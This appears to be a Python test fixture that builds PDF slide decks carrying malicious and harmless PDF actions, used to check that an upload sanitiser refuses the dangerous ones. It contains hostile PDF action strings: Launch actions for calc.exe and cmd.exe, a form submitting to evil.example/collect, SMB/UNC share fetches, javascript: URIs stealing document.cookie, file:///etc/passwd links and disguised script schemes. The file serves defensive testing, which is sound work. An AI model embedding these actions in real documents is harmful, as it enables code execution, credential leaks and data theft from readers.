"""Every kind of PDF action, harmful or not, and every place a reader runs one from: decks built
from the two lists (tests/slides/pdf_corpus.py's `deck` with one fault), for the action tests and
the corpus.

An `Action` is the PDF text of an action dictionary, the refusal code it must get (None: accepted)
and what the refusal must name of it. A `Place` hangs an action somewhere in a deck and says the
start of the sentence the refusal must begin with (`{page}` is the page it is on).
"""

from collections.abc import Callable
from dataclasses import dataclass

from tests.slides.pdf_corpus import PdfBuilder, deck


@dataclass(frozen=True)
class Action:
    name: str
    pdf: str
    code: str | None
    kind: str = ""  # what the message shows in brackets


SHARE = "\\\\\\\\evil\\\\share"  # \\evil\share in a PDF string, each backslash written twice
ACTIONS = [
    Action("javascript", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "javascript", "JavaScript action"),
    Action("ecmascript", "<< /S /ECMAScript /JS (app.alert\\(1\\)) >>", "javascript", "ECMAScript action"),
    Action("launch", "<< /S /Launch /F (calc.exe) >>", "launch_action", "Launch action"),
    Action("launch-windows", "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>", "launch_action", "Launch action"),
    Action("gotor-share", f"<< /S /GoToR /F ({SHARE}\\\\deck.pdf) /D [0 /Fit] >>", "remote_action", "GoToR"),
    Action(
        "gotor-url",
        "<< /S /GoToR /F << /FS /URL /F (http://evil.example/x.pdf) >> /D [0 /Fit] >>",
        "remote_action",
        "GoToR",
    ),
    Action("thread-other-file", "<< /S /Thread /F (other.pdf) /D 0 >>", "remote_action", "Thread action"),
    Action(
        "submit-form",
        "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>",
        "remote_action",
        "SubmitForm action",
    ),
    Action("import-data", f"<< /S /ImportData /F ({SHARE}\\\\data.fdf) >>", "remote_action", "ImportData"),
    Action("gotoe", "<< /S /GoToE /T << /R /C /N (payload.pdf) >> >>", "embedded_files", "GoToE action"),
    Action(
        "uri-javascript", "<< /S /URI /URI (javascript:alert\\(document.cookie\\)) >>", "unsafe_link", "javascript:"
    ),
    Action("uri-javascript-disguised", "<< /S /URI /URI ( JaVa\tScRiPt:alert\\(1\\)) >>", "unsafe_link", "javascript:"),
    Action("uri-file", "<< /S /URI /URI (file:///etc/passwd) >>", "unsafe_link", "file:"),
    Action("uri-smb", "<< /S /URI /URI (smb://evil.example/share) >>", "unsafe_link", "smb:"),
    Action(
        "uri-unc-share", "<< /S /URI /URI (\\\\\\\\evil.example\\\\share\\\\x) >>", "unsafe_link", "\\\\evil.example"
    ),
    Action("uri-data", "<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>", "unsafe_link", "data:"),
    Action("uri-relative", "<< /S /URI /URI (../../secrets.pdf) >>", "unsafe_link", "a relative address"),
    Action("uri-hex-string", "<< /S /URI /URI <6a6176617363726970743a31> >>", "unsafe_link", "javascript:"),
    Action("movie", "<< /S /Movie /T (clip) /Operation /Play >>", "media", "Movie action"),
    Action("sound", "<< /S /Sound /Volume 1.0 >>", "media", "Sound action"),
    Action(
        "rendition-external",
        "<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (http://evil.example/v.mp4) >> >> >> >>",
        "media",
        "Rendition action",
    ),
    Action("richmedia-execute", "<< /S /RichMediaExecute /CMD << /C (play) >> >>", "media", "RichMediaExecute action"),
    Action("indirect-type-name", "<< /S {name} 0 R /F (calc.exe) >>", "launch_action", "Launch action"),
    Action("unknown-type", "<< /S /LaunchPlus /F (calc.exe) >>", "unknown_action", "LaunchPlus action"),
]
HARMLESS = [
    Action("goto", "<< /S /GoTo /D [0 /Fit] >>", None),
    Action("named-next-page", "<< /S /Named /N /NextPage >>", None),
    Action("reset-form", "<< /S /ResetForm /Flags 0 >>", None),
    Action("hide", "<< /S /Hide /T (note) /H true >>", None),
    Action("set-layer", "<< /S /SetOCGState /State [/ON] >>", None),
    Action("thread-in-document", "<< /S /Thread /D 0 >>", None),
    Action("uri-https", "<< /S /URI /URI (https://summit.example/talks/exactly-once) >>", None),
    Action("uri-http", "<< /S /URI /URI (HTTP://summit.example/) >>", None),
    Action("uri-mailto", "<< /S /URI /URI (mailto:ada@summit.example) >>", None),
]


@dataclass(frozen=True)
class Place:
    name: str
    says: str  # the refusal's first words; "{page}" is the page number
    put: Callable[[PdfBuilder, str], tuple[str, str]]  # the action's text → catalogue and page entries
    on_page: bool = False
    every_action: bool = True  # False: only actions the object walk knows harmful are refused here


def _link(b: PdfBuilder, action: str, key: str = "/A") -> tuple[str, str]:
    body = f"<< /S /GoTo /D [0 /Fit] >> /AA << /E {action} >>" if key == "/AA" else action
    link = b.add(f"<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] /A {body} >>")
    return "", f"/Annots [{link} 0 R]"


def _widget(b: PdfBuilder, action: str) -> tuple[str, str]:
    field = b.add(f"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (go) /Rect [0 0 50 20] /A {action} >>")
    return f"/AcroForm << /Fields [{field} 0 R] >>", f"/Annots [{field} 0 R]"


def _field_only(b: PdfBuilder, action: str) -> tuple[str, str]:
    # A form field whose widget is on no page: only the form's field list points at it.
    field = b.add(f"<< /FT /Tx /T (email) /AA << /K {action} >> >>")
    return f"/AcroForm << /Fields [{field} 0 R] >>", ""


def _bookmark(b: PdfBuilder, action: str) -> tuple[str, str]:
    outlines, first = b.reserve(), b.reserve()
    second = b.add(f"<< /Title (Demo) /Parent {outlines} 0 R /Prev {first} 0 R /A {action} >>")
    b.put(
        first, f"<< /Title (Introduction) /Parent {outlines} 0 R /Next {second} 0 R /A << /S /Named /N /FirstPage >> >>"
    )
    b.put(outlines, f"<< /Type /Outlines /First {first} 0 R /Last {second} 0 R /Count 2 >>")
    return f"/Outlines {outlines} 0 R", ""


def _chained(b: PdfBuilder, action: str) -> tuple[str, str]:
    harmless = b.add("<< /S /Named /N /FirstPage >>")
    return f"/OpenAction << /S /Named /N /LastPage /Next [{harmless} 0 R {action}] >>", ""


def _unreferenced(b: PdfBuilder, action: str) -> tuple[str, str]:
    b.add(action)
    return "", ""


PLACES = [
    Place("open-action", "The document has an opening action", lambda b, a: (f"/OpenAction {a}", "")),
    Place(
        "document-event",
        "The document has an action on closing, saving or printing",
        lambda b, a: (f"/AA << /WC {a} >>", ""),
    ),
    Place("chained-action", "The document has an opening action", _chained),
    Place("page-open", "Page {page} has an opening or closing action", lambda b, a: ("", f"/AA << /O {a} >>"), True),
    Place("link", "Page {page} has a link", _link, True),
    Place("link-mouse-over", "Page {page} has a link", lambda b, a: _link(b, a, "/AA"), True),
    Place("form-button", "Page {page} has a form field", _widget, True),
    Place("form-field-off-page", "The form field “email” has an action", _field_only),
    Place("bookmark", "The bookmark “Demo” has an action", _bookmark),
    Place("unreferenced", "", _unreferenced, every_action=False),
]


def action_deck(action: Action, place: Place, *, pages: int = 4, page: int = 3, seed: int = 0) -> bytes:
    def extras(b: PdfBuilder) -> tuple[str, str]:
        text = action.pdf
        if "{name}" in text:
            text = text.format(name=b.add("/Launch"))
        return place.put(b, text)

    return deck(pages, seed=seed, extras=extras, extras_on_page=page)


# Annotations that are harmful in themselves, on a page.
MEDIA_ANNOTATIONS = {
    "richmedia": ("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 320 180] /RichMediaContent << >> >>", "media"),
    "screen": ("<< /Type /Annot /Subtype /Screen /Rect [0 0 320 180] /T (video) >>", "media"),
    "movie": ("<< /Type /Annot /Subtype /Movie /Rect [0 0 320 180] /Movie << /F (talk.mov) >> >>", "media"),
    "sound": ("<< /Type /Annot /Subtype /Sound /Rect [0 0 20 20] /Sound << /R 8000 >> >>", "media"),
    "3d": ("<< /Type /Annot /Subtype /3D /Rect [0 0 320 180] >>", "media"),
    "file-attachment": (
        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS (payload.exe) >>",
        "embedded_files",
    ),
}


def annotation_deck(annotation: str, *, pages: int = 4, page: int = 2, seed: int = 0) -> bytes:
    def extras(b: PdfBuilder) -> tuple[str, str]:
        return "", f"/Annots [{b.add(annotation)} 0 R]"

    return deck(pages, seed=seed, extras=extras, extras_on_page=page)
